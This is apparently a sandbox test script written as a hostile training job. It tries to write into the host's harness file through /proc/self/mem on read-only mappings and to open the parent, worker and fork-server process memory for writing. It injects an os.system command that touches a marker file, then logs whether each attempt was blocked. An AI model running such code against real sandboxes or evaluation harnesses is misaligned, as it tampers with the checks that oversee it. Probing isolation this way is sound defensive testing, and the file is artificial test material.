# Attack: write through /proc/self/mem. Map the harness file read-only (private and shared) and force bytes
# into those pages, hoping to reach the file on the host; open the memory of the parent, of the worker's
# and of the fork server's host pids for writing. Then train normally.
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
for pid in (os.getppid(), int("__WORKER_PID__"), int("__SERVER_PID__")):
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0):
            print("OPENED mem of", pid, flush=True)
    except OSError as exc:
        print("BLOCKED mem of", pid, exc.errno, flush=True)
fd = os.open("/opt/harness/harness.py", os.O_RDONLY)
for name, flags in (("private", mmap.MAP_PRIVATE), ("shared", mmap.MAP_SHARED)):
    address = libc.mmap(None, 4096, mmap.PROT_READ, flags, fd, 0)
    try:
        with open("/proc/self/mem", "r+b", buffering=0) as mem:
            mem.seek(address)
            mem.write(b"import os; os.system('touch /tmp/__MARKER__')\n#")
        print("WROTE", name, "mapping:", ctypes.string_at(address, 24), flush=True)
    except OSError as exc:
        print("BLOCKED", name, "mapping", exc.errno, flush=True)
with open("/opt/harness/harness.py", "rb") as f:
    print("harness starts with", f.read(24), flush=True)
#@train
